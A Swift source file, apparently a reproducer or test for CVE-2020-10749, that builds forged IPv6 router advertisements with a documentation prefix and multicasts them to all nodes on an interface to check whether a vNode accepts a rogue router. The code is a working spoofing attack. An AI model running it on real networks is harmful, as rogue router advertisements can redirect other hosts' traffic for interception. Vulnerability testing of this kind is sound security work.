import Glibc
import Linux
import SystemPackage

/// Says on the link of a vNode that it is a router for all the world (CVE-2020-10749).
enum Router {
    /// 2001:db8:ad::/64, which is nobody's.
    static let prefix: [UInt8] = [0x20, 0x01, 0x0d, 0xb8, 0x00, 0xad]
    /// As `/proc/net/ipv6_route` begins with it.
    static let prefixText = "20010db800ad"

    /// Sends router advertisements to everybody on an interface. Answers how many went.
    static func advertise(on interface: String, times: Int) throws(Errno) -> Int {
        let index = unsafe if_nametoindex(interface)
        if index == 0 { throw .noSuchAddressOrDevice }
        // IPPROTO_ICMPV6, whose checksum the kernel makes.
        let socket = OwnedFD(taking: try check(Glibc.socket(AF_INET6, CInt(SOCK_RAW.rawValue), 58)))
        let raw = socket.raw
        // IPV6_MULTICAST_HOPS, IPV6_MULTICAST_IF: what has passed a router is not believed.
        for (option, value) in [(18, 255), (17, CInt(bitPattern: index))] as [(CInt, CInt)] {
            var value = value
            _ = try check(unsafe setsockopt(raw, 41, option, &value, socklen_t(MemoryLayout<CInt>.size)))
        }
        // ff02::1
        var everybody = sockaddr_in6()
        everybody.sin6_family = sa_family_t(AF_INET6)
        everybody.sin6_scope_id = index
        unsafe withUnsafeMutableBytes(of: &everybody.sin6_addr) { bytes in
            for (offset, byte) in [(0, 0xff), (1, 0x02), (15, 0x01)] as [(Int, UInt8)] { unsafe bytes[offset] = byte }
        }
        var sent = 0
        for _ in 0..<times {
            let size = unsafe advertisement.withUnsafeBytes { packet in
                unsafe withUnsafePointer(to: &everybody) {
                    unsafe $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                        unsafe sendto(raw, packet.baseAddress, packet.count, 0, $0, socklen_t(MemoryLayout<sockaddr_in6>.size))
                    }
                }
            }
            // None goes before the interface has an address.
            if size > 0 { sent += 1 }
            usleep(200_000)
        }
        return sent
    }

    /// Type 134, a router for half an hour, and an option with a prefix that is on the link and to make addresses of.
    private static var advertisement: [UInt8] {
        let router: [UInt8] = [134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0]
        let option: [UInt8] = [3, 4, 64, 0xc0, 0, 0, 0x07, 0x08, 0, 0, 0x07, 0x08, 0, 0, 0, 0]
        return router + option + prefix + [UInt8](repeating: 0, count: 16 - prefix.count)
    }
}
